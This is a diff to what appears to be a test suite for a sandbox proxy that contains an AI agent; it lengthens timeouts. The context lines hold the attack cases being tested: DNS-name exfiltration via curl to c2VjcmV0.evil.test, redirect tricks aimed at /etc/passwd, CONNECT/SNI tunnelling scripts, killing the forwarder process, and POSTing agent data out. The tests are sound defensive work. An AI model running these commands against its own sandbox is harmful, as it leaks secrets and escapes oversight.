@@ -113,20 +113,20 @@ import json, socket, sys
 def raw(data, path=None):
     if path: s = socket.socket(socket.AF_UNIX); s.connect(path)
     else: s = socket.create_connection(('127.0.0.1', 3128))
-    s.settimeout(4); s.sendall(data.encode('latin1'))
+    s.settimeout(20); s.sendall(data.encode('latin1'))
     out = b''
     try:
         while True:
             part = s.recv(65536)
             if not part: break
             out += part
-            s.settimeout(0.7)
+            s.settimeout(4)
     except OSError: pass
     s.close()
     return out.decode('latin1')
 def tunnel(to, name):
     import ssl
-    s = socket.create_connection(('127.0.0.1', 3128)); s.settimeout(6)
+    s = socket.create_connection(('127.0.0.1', 3128)); s.settimeout(20)
     s.sendall(f'CONNECT {to} HTTP/1.1\\r\\nhost: {to}\\r\\n\\r\\n'.encode('latin1'))
     answer = s.recv(65536).decode('latin1')
     if ' 200 ' in answer[:20]:
@@ -159,7 +159,7 @@ afterEach(() => {
 
 /** Sends bytes to the proxy from inside, one connection a case, and gives back what came. */
 async function sent(cases: readonly (string | readonly [to: string, name: string])[]): Promise<string[]> {
-  const { output } = await run(sandbox, 'python3 raw.py', { stdin: JSON.stringify(cases), timeoutMs: 45_000 });
+  const { output } = await run(sandbox, 'python3 raw.py', { stdin: JSON.stringify(cases), timeoutMs: 55_000 });
   return output
     .trim()
     .split('\n')
@@ -340,7 +340,7 @@ for (const [what, how, make] of [
     const to = encodeURIComponent(make());
     const { output } = await run(
       sandbox,
-      `curl -sSL --max-redirs 8 --max-time 8 -o got -w '%{http_code}' 'http://files.test:${plain.port}/redirect?to=${to}'; cat got 2>/dev/null`,
+      `curl -sSL --max-redirs 8 --max-time 15 -o got -w '%{http_code}' 'http://files.test:${plain.port}/redirect?to=${to}'; cat got 2>/dev/null`,
     );
     expect(output).not.toMatch(/sesame|root:x/);
     expect(plain.requests.length).toBeGreaterThan(0);
@@ -433,7 +433,7 @@ attack(
       `
 import socket, ssl, sys
 def attempt(to, name):
-    s = socket.create_connection(('127.0.0.1', 3128)); s.settimeout(6)
+    s = socket.create_connection(('127.0.0.1', 3128)); s.settimeout(20)
     s.sendall(f'CONNECT {to} HTTP/1.1\\r\\nhost: {to}\\r\\n\\r\\n'.encode())
     if b' 200 ' not in s.recv(4096): return 'refused'
     context = ssl._create_unverified_context()
@@ -443,7 +443,7 @@ def attempt(to, name):
         return 'REACHED' if b'reached' in t.recv(4096) + t.recv(4096) else 'cut'
     except OSError: return 'cut'
 def bare(to, data):
-    s = socket.create_connection(('127.0.0.1', 3128)); s.settimeout(6)
+    s = socket.create_connection(('127.0.0.1', 3128)); s.settimeout(20)
     s.sendall(f'CONNECT {to} HTTP/1.1\\r\\nhost: {to}\\r\\n\\r\\n'.encode()); s.recv(4096)
     try: s.sendall(data); return 'REACHED' if b'reached' in s.recv(4096) else 'cut'
     except OSError: return 'cut'
@@ -451,7 +451,7 @@ print(attempt('files.test:${api.port}', 'files.test'), attempt('files.test:${api
 `,
       { append: false, signal: new AbortController().signal },
     );
-    const { output } = await run(sandbox, 'python3 sni.py', { timeoutMs: 40_000 });
+    const { output } = await run(sandbox, 'python3 sni.py', { timeoutMs: 55_000 });
     expect(output.trim()).toBe('REACHED cut cut cut');
     expect(plain.requests).toEqual([]);
   },
@@ -495,7 +495,7 @@ attack(
   'the agent harms its own way out only; the next call has one again',
   async () => {
     await run(sandbox, 'pkill -9 -f forward; kill -9 -1').catch(() => undefined);
-    expect((await run(sandbox, `curl -s --max-time 8 http://${files()}/back`)).output).toBe('reached /back');
+    expect((await run(sandbox, `curl -s --max-time 15 http://${files()}/back`)).output).toBe('reached /back');
   },
 );
 
@@ -512,11 +512,11 @@ attack('network', 'data in names that are looked up', 'a name that no rule cover
   const before = names.asked.length;
   await run(
     other,
-    `curl -s --max-time 5 http://c2VjcmV0.evil.test/; curl -s --max-time 5 http://gateway/c2VjcmV0.evil.test/; curl -s --max-time 5 -k https://c2VjcmV0.evil.test/; getent hosts c2VjcmV0.evil.test`,
-    { timeoutMs: 30_000 },
+    `curl -s --max-time 15 http://c2VjcmV0.evil.test/; curl -s --max-time 15 http://gateway/c2VjcmV0.evil.test/; curl -s --max-time 15 -k https://c2VjcmV0.evil.test/; getent hosts c2VjcmV0.evil.test`,
+    { timeoutMs: 50_000 },
   );
   expect(names.asked.slice(before).filter((name) => name.includes('evil'))).toEqual([]);
-  expect((await run(other, `curl -s --max-time 5 http://fresh.test:${plain.port}/ok`)).output).toBe('reached /ok');
+  expect((await run(other, `curl -s --max-time 15 http://fresh.test:${plain.port}/ok`)).output).toBe('reached /ok');
   expect(names.asked.slice(before)).toEqual(['fresh.test']);
 });
 
@@ -526,10 +526,10 @@ limit(
   'whoever runs that zone sees them: write hosts out, without a star',
   async () => {
     const before = names.asked.length;
-    await run(sandbox, 'curl -s --max-time 5 http://c2VjcmV0.evil.test/');
+    await run(sandbox, 'curl -s --max-time 15 http://c2VjcmV0.evil.test/');
     // The one thing that leaves is the name; the request itself is on record.
     expect(names.asked.slice(before)).toEqual(['c2vjcmv0.evil.test']);
-    expect(records.some(({ host }) => host === 'c2vjcmv0.evil.test')).toBe(true);
+    await expect.poll(() => records.some(({ host }) => host === 'c2vjcmv0.evil.test')).toBe(true);
   },
 );
 
@@ -538,9 +538,9 @@ limit(
   'data sent to a host that is allowed',
   'a rule with methods `*` lets anything go there: list methods and paths, and use `network: none`',
   async () => {
-    await run(sandbox, `curl -s --max-time 5 -d 'what the agent knows' http://${files()}/echo`);
+    await run(sandbox, `curl -s --max-time 15 -d 'what the agent knows' http://${files()}/echo`);
     expect(plain.requests.map(({ body }) => body)).toEqual(['what the agent knows']);
-    expect(records.at(-1)).toMatchObject({ host: 'files.test', method: 'POST' });
+    await expect.poll(() => records.at(-1)).toMatchObject({ host: 'files.test', method: 'POST' });
   },
 );
 
@@ -551,7 +551,7 @@ const shapes = () => [
   encodeURIComponent(secret),
 ];
 const gateway = (path: string) => `http://gateway/api.test:${api.port}${path}`;
-const curl = async (args: string) => (await run(sandbox, `curl -s --max-time 8 ${args}`)).output;
+const curl = async (args: string) => (await run(sandbox, `curl -s --max-time 15 ${args}`)).output;
 
 attack(
   'secrets',
